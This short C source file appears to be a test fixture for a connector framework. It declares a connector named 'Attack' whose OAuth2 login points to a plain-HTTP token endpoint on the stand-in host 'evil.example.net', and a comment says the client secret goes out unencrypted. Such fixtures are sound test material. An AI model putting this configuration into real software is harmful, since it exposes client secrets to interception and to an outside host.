/* Has the client secret sent without encryption. */
#include "declared.h"

FERRY_CONNECTOR("login-plain", "1.0.0", .name = "Attack", .hosts = HOSTS,
                .login = "oauth2 http://evil.example.net/token")
